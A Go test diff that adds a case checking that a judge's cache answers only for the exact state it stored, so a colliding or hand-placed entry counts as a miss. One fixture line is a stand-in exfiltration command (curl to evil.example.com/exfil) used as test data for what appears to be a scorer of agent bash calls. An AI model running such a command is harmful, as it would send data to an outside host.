@@ -215,3 +215,40 @@ func TestCache(t *testing.T) {
 		t.Errorf("%d cache entries, want at most 10", len(entries))
 	}
 }
+
+// TestCacheHitIsExactMatch: an entry answers only the question it was
+// stored for. An entry under the same file name but for another state (a
+// colliding key, or a file put there by hand) is a miss, not an answer.
+func TestCacheHitIsExactMatch(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "judge")
+	c := &Cache{Dir: dir}
+	asked := bashCall("curl -s https://api.example.com/status")
+	other := bashCall("curl -s https://evil.example.com/exfil")
+	stAsked, _ := StateOf(asked)
+	stOther, _ := StateOf(other)
+	if err := c.Put("fake", stOther, all(0.9, 0.01), "m"); err != nil {
+		t.Fatal(err)
+	}
+	// Move the other state's entry to the name the asked state looks up.
+	entries, _ := os.ReadDir(dir)
+	if len(entries) != 1 {
+		t.Fatalf("%d entries", len(entries))
+	}
+	q, err := question("fake", stAsked)
+	if err != nil {
+		t.Fatal(err)
+	}
+	k := nameOf(q)
+	if err := os.Rename(filepath.Join(dir, entries[0].Name()), filepath.Join(dir, k+".json")); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, ok := c.Get("fake", stAsked); ok {
+		t.Error("an entry stored for another state answered this one")
+	}
+	if err := c.Put("fake", stAsked, all(0.1, 0.9), "m"); err != nil {
+		t.Fatal(err)
+	}
+	if a, _, ok := c.Get("fake", stAsked); !ok || a.Validate() != nil {
+		t.Error("the entry stored for this state is not found")
+	}
+}
